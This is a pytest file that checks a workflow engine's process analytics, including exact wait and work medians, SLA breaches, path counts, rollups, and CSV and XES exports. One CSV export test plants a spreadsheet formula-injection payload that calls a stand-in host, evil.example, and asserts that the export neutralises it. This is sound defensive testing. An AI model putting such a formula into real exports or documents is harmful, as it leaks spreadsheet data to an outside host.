"""Process analytics over known lifecycles run on a controllable clock: exact counts, medians,
90th percentiles and SLA breach shares per node and per path."""

from __future__ import annotations

import csv
import io
from datetime import UTC, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import delete, func, select

from engine import analytics, analytics_rollup
from engine.eventlog import ProcessEvent
from engine.eventlog_backfill import backfill
from engine.models import ProcessVersion
from engine.workitems import claim
from tests.conftest import next_working_monday
from worker.lifecycle import Lifecycle, make_people, new_subscriber, submit
from workflow.analytics import DIRECT, classify

HOUR = 3600.0


@pytest.fixture
def world(system):
    return make_people(system)


class Run:
    """Drives one application at a time; every wait is a clock advance."""

    def __init__(self, system, world, clock):
        self.system, self.world, self.clock = system, world, clock
        self.life = Lifecycle(system)

    def submit(self, value: int) -> int:
        code, serials, seals = new_subscriber(self.system)
        return submit(self.life, self.world, code, serials, seals, [value])

    def work(
        self, iid: int, task: str, who: str, wait: dict, work: dict, data: dict | None = None
    ) -> None:
        """After ``wait`` someone claims the task, after ``work`` more it is completed with ``data``."""
        self.clock.advance(**wait)
        item = self.life.item(iid, task)
        with self.system.sessions() as s:
            claim(s, item.id, self.world[who], self.clock(), timedelta(minutes=30))
            s.commit()
        self.clock.advance(**work)
        self.life.complete(iid, task, self.world[who], data or {}, claim=True)

    def inspect(self, iid: int, value: int, wait: dict, work: dict) -> None:
        line_id = self.life.application(iid).lines[0].id
        self.work(
            iid,
            "field_inspection",
            "inspector",
            wait,
            work,
            {
                "outcome": "done",
                "meters": [
                    {
                        "line_id": line_id,
                        "value": value,
                        "read_on": self.system.services.today().isoformat(),
                    }
                ],
            },
        )


ACCEPT = {"decision": "accept"}
INSPECT = {"decision": "inspect", "inspection_instruction": "Check the register"}
REJECT = {"decision": "reject", "reject_reason": "The photo does not show the register"}


@pytest.fixture
def scenario(system, world, clock):
    """Seven applications in Yasamal with known waits (hours unless said otherwise):

    | case | path | review wait / work | inspection wait / work |
    |---|---|---|---|
    | 1 | accepted directly | 2 / 0.5 | |
    | 2 | accepted directly | 4 / 1 | |
    | 3 | overridden (1290 declared, 1207 found) | 1 / 1 | 5 / 2 |
    | 4 | inspected (1207 declared and found) | 1 / 1 | 1 / 0.5 |
    | 5 | rejected | 3 / 1/6 | |
    | 6 | escalated (swept after 2 days 1 minute), then accepted: SLA broken | 50 / 1 | |
    | 7 | abandoned draft (31 days) | | |
    """
    next_working_monday(
        clock, system.services.calendar
    )  # the review SLA, two working days, is 48 hours
    run = Run(system, world, clock)
    start = clock()
    ids = {}
    ids[1] = run.submit(1206)
    run.work(ids[1], "review_application", "operator", {"hours": 2}, {"minutes": 30}, ACCEPT)
    ids[2] = run.submit(1206)
    run.work(ids[2], "review_application", "operator", {"hours": 4}, {"hours": 1}, ACCEPT)
    ids[3] = run.submit(1290)
    run.work(ids[3], "review_application", "operator", {"hours": 1}, {"hours": 1}, INSPECT)
    run.inspect(ids[3], 1207, {"hours": 5}, {"hours": 2})
    ids[4] = run.submit(1207)
    run.work(ids[4], "review_application", "operator", {"hours": 1}, {"hours": 1}, INSPECT)
    run.inspect(ids[4], 1207, {"hours": 1}, {"minutes": 30})
    ids[5] = run.submit(1206)
    run.work(ids[5], "review_application", "operator", {"hours": 3}, {"minutes": 10}, REJECT)
    ids[6] = run.submit(1206)
    clock.advance(days=2, minutes=1)
    assert run.life.sweep() == 1
    run.work(
        ids[6], "review_application", "operator", {"hours": 1, "minutes": 59}, {"hours": 1}, ACCEPT
    )
    ids[7] = run.life.start(world["citizen"])
    clock.advance(days=31)
    run.life.sweep()
    with system.sessions() as s:
        version_id = s.scalar(select(ProcessVersion.id))
    scope = analytics.Scope((version_id,), start - timedelta(days=1), clock() + timedelta(days=1))
    return {"ids": ids, "scope": scope, "unit_id": world["operator"].unit_id}


def test_node_figures_are_exact(system, scenario):
    with system.sessions() as s:
        stats = analytics.node_stats(s, scenario["scope"])
    review = stats["review_application"]
    # waits 2, 4, 1, 1, 3, 50 h: median (2+3)/2, p90 between the 5th and 6th = 4 + 0.5 * 46
    assert review["passed"] == 6 and review["open"] == 0
    assert review["wait_median"] == 2.5 * HOUR and review["wait_p90"] == 27 * HOUR
    # works 0.5, 1, 1, 1, 1/6, 1 h
    assert review["work_median"] == 1 * HOUR and review["work_p90"] == 1 * HOUR
    assert review["breached"] == 1 and review["breach_share"] == pytest.approx(1 / 6)
    inspection = stats["field_inspection"]
    assert inspection["passed"] == 2 and inspection["wait_median"] == 3 * HOUR
    assert inspection["work_median"] == 1.25 * HOUR and inspection["breach_share"] == 0
    # the escalation's task was cancelled when the application ended, so none passed it
    assert "handle_escalation" not in stats
    # the citizens' own steps: seven started, six submitted, the abandoned draft's step cancelled
    assert stats["identify_subscriber"]["passed"] == 6 and stats["enter_readings"]["passed"] == 6


def test_paths_are_exact(system, scenario):
    with system.sessions() as s:
        found = {p["path"]: p for p in analytics.paths(s, scenario["scope"], classify)}
    assert {name: p["count"] for name, p in found.items()} == {
        "accepted_directly": 2,
        "overridden": 1,
        "inspected": 1,
        "rejected": 1,
        "escalated": 1,
        "abandoned": 1,
    }
    assert found["accepted_directly"]["share"] == pytest.approx(2 / 7)
    assert found["accepted_directly"]["median"] == 3.75 * HOUR  # 2.5 h and 5 h from start to end
    assert found["overridden"]["median"] == 9 * HOUR
    assert found["escalated"]["median"] == (48 + 2 + 1) * HOUR
    assert found["abandoned"]["median"] == 31 * 24 * HOUR
    assert found["overridden"]["nodes"] == [
        "enter_readings",
        "executed",
        "field_inspection",
        "identify_subscriber",
        "review_application",
    ]
    assert "field_inspection" not in found["accepted_directly"]["nodes"]


def test_unit_filter_and_node_listing(system, scenario):
    scope = scenario["scope"]
    other_unit = analytics.Scope(
        scope.version_ids, scope.start, scope.end, (scenario["unit_id"] + 100,)
    )
    mine = analytics.Scope(scope.version_ids, scope.start, scope.end, (scenario["unit_id"],))
    with system.sessions() as s:
        assert analytics.node_stats(s, other_unit) == {}
        assert analytics.paths(s, other_unit, classify) == []
        assert analytics.node_stats(s, mine)["review_application"]["passed"] == 6
        listing = analytics.node_instances(s, mine, "review_application", scope.end)
    assert listing["waiting"] == []
    slowest = listing["slowest"]
    assert slowest[0]["instance_id"] == scenario["ids"][6] and slowest[0]["seconds"] == 51 * HOUR
    assert [row["seconds"] / HOUR for row in slowest[1:3]] == [5, 3 + 1 / 6]
    assert all(set(row) == {"instance_id", "reference", "unit_id", "seconds"} for row in slowest)


def _days(system, scope, unit_ids=None) -> analytics_rollup.Days:
    zone = ZoneInfo(system.settings.app.timezone)
    return analytics_rollup.Days(
        scope.version_ids,
        scope.start.astimezone(zone).date(),
        scope.end.astimezone(zone).date(),
        unit_ids,
    )


def test_rollup_agrees_with_the_exact_figures(system, scenario):
    scope = scenario["scope"]
    with system.sessions() as s:
        assert system.refresh_analytics(s, force=True)
        s.commit()
        exact = analytics.node_stats(s, scope)
        rolled = analytics_rollup.node_stats(
            s, _days(system, scope), analytics.open_counts(s, scope)
        )
        exact_paths = {p["path"]: p for p in analytics.paths(s, scope, classify)}
        rolled_paths = {p["path"]: p for p in analytics_rollup.paths(s, _days(system, scope))}
    assert set(rolled) == set(exact)
    for node, figures in exact.items():
        for key in ("passed", "open", "breached", "breach_share"):
            assert rolled[node][key] == figures[key], (node, key)
        for key in ("wait_median", "wait_p90", "work_median", "work_p90"):
            if figures[key] is None or figures[key] < 60:
                assert rolled[node][key] == pytest.approx(figures[key] or 0, abs=60), (node, key)
            else:
                assert rolled[node][key] == pytest.approx(figures[key], rel=0.1), (node, key)
    assert {k: (p["count"], p["share"]) for k, p in rolled_paths.items()} == {
        k: (p["count"], p["share"]) for k, p in exact_paths.items()
    }
    assert rolled_paths["escalated"]["median"] == pytest.approx(51 * HOUR, rel=0.1)


def test_charts(system, scenario):
    with system.sessions() as s:
        system.refresh_analytics(s, force=True)
        s.commit()
        figures = analytics_rollup.charts(s, _days(system, scenario["scope"]), DIRECT)
        unit_only = analytics_rollup.charts(
            s, _days(system, scenario["scope"], (scenario["unit_id"],)), DIRECT
        )
    assert sum(n for _day, n in figures["per_day"]) == 6  # the abandoned draft was never submitted
    assert sum(n for _week, n in figures["per_week"]) == 6
    assert figures["cycle_histogram"] == [5, 0, 1, 0, 0, 0, 1]  # five within a day, 51 h, 31 days
    assert unit_only["cycle_histogram"] == [5, 0, 1, 0, 0, 0, 0]  # the draft had no unit
    assert figures["breaches_per_unit"] == [(scenario["unit_id"], 1)]
    # accepted directly out of the finished applications, per week
    assert sum(direct for _w, direct, _n in figures["direct_share"]) == 2
    assert sum(finished for _w, _d, finished in figures["direct_share"]) == 7
    backlog = figures["backlog"][scenario["unit_id"]]
    assert backlog[-1][1] == 0 and max(n for _d, n in backlog) == 1
    assert list(figures["backlog"]) == [scenario["unit_id"]]


def test_the_sweep_refreshes_the_rollup_every_few_minutes(system, world, clock):
    run = Run(system, world, clock)
    with system.sessions() as s:
        assert system.refresh_analytics(s)  # the first time: everything
        s.commit()
        assert not system.refresh_analytics(s)  # then not before five minutes
    iid = run.submit(1206)
    run.work(iid, "review_application", "operator", {"hours": 1}, {"minutes": 5}, ACCEPT)
    clock.advance(minutes=5)
    run.life.sweep()
    with system.sessions() as s:
        version_id = s.scalar(select(ProcessVersion.id))
        today = clock().astimezone(ZoneInfo(system.settings.app.timezone)).date()
        days = analytics_rollup.Days((version_id,), today - timedelta(days=1), today)
        assert analytics_rollup.node_stats(s, days, {})["review_application"]["passed"] == 1
        assert analytics_rollup.refreshed_at(s) == clock()


def test_waiting_now_lists_the_open_review(system, world, clock):
    run = Run(system, world, clock)
    iid = run.submit(1206)
    clock.advance(hours=3)
    with system.sessions() as s:
        version_id = s.scalar(select(ProcessVersion.id))
        scope = analytics.Scope(
            (version_id,), clock() - timedelta(days=1), clock() + timedelta(days=1)
        )
        listing = analytics.node_instances(s, scope, "review_application", clock())
        assert analytics.node_stats(s, scope)["review_application"]["open"] == 1
    assert [(r["instance_id"], r["seconds"]) for r in listing["waiting"]] == [(iid, 3 * HOUR)]


def test_backfill_rebuilds_the_same_figures(system, scenario):
    scope = scenario["scope"]
    with system.sessions() as s:
        before_nodes = analytics.node_stats(s, scope)
        before_paths = {p["path"]: p["count"] for p in analytics.paths(s, scope, classify)}
        s.execute(delete(ProcessEvent))
        written = backfill(s)
        assert written > 0 and backfill(s) == 0  # a second run adds nothing
        s.commit()
        after_nodes = analytics.node_stats(s, scope)
        after_paths = {p["path"]: p["count"] for p in analytics.paths(s, scope, classify)}
        assert s.scalar(select(func.count()).select_from(ProcessEvent)) == written
    assert after_nodes == before_nodes
    # the audit log does not say whether an inspector overrode a reading: that case reads as inspected
    expected = {k: v for k, v in before_paths.items() if k != "overridden"} | {"inspected": 2}
    assert after_paths == expected


def _unit_codes(session) -> dict[int, str]:
    from engine.models import Unit

    return {u.id: u.code for u in session.scalars(select(Unit))}


def test_csv_export_neutralises_a_formula_in_a_note(system, scenario):
    from engine import analytics_export
    from engine.eventlog import MARKER, record

    iid = scenario["ids"][1]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with system.sessions() as s:
        record(
            s,
            MARKER,
            iid,
            scenario["scope"].start + timedelta(hours=1),
            node="review_application",
            detail=formula,
        )
        s.commit()
        text = "".join(analytics_export.to_csv(s, scenario["scope"], _unit_codes(s)))
        total = s.scalar(select(func.count()).select_from(ProcessEvent))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == total
    note = next(r for r in rows if r["event"] == "marker" and r["instance_id"] == str(iid))
    assert note["detail"] == "'" + formula
    review = next(
        r for r in rows if r["event"] == "task_ready" and r["activity"] == "review_application"
    )
    assert review["unit"] == "U-YSM" and review["case"].startswith(
        "20"
    )  # an application number, as is


def test_xes_export_reads_back_with_every_event(system, scenario, tmp_path):
    import pm4py

    from engine import analytics_export

    with system.sessions() as s:
        path = tmp_path / "log.xes"
        path.write_text(
            "".join(analytics_export.to_xes(s, scenario["scope"], _unit_codes(s), "meter_reading"))
        )
        events = list(s.scalars(select(ProcessEvent)))
        numbers = {e.instance_id: e.reference for e in events if e.reference}
        expected = sorted(
            (
                numbers.get(e.instance_id, f"instance-{e.instance_id}"),
                analytics_export.activity(e),
                e.at.replace(tzinfo=UTC),
            )
            for e in events
        )
    frame = pm4py.read_xes(str(path), variant="iterparse")  # the XML parser (lxml)
    found = sorted(
        zip(
            frame["case:concept:name"],
            frame["concept:name"],
            (t.to_pydatetime() for t in frame["time:timestamp"]),
            strict=False,
        )
    )
    assert len(found) == len(expected) > 7 * 5
    assert found == expected
    assert frame["case:concept:name"].nunique() == 7


def test_a_day_is_the_utilitys_local_day(system, world, clock):
    clock.now = clock.now.replace(hour=21, minute=30, second=0)  # 01:30 of the next day in Baku
    run = Run(system, world, clock)
    run.submit(1206)
    local_day = clock().astimezone(ZoneInfo(system.settings.app.timezone)).date()
    assert local_day == (clock() + timedelta(days=1)).date()
    with system.sessions() as s:
        system.refresh_analytics(s, force=True)
        s.commit()
        version_id = s.scalar(select(ProcessVersion.id))
        days = analytics_rollup.Days((version_id,), local_day - timedelta(days=1), local_day)
        assert analytics_rollup.charts(s, days, DIRECT)["per_day"] == [(local_day, 1)]
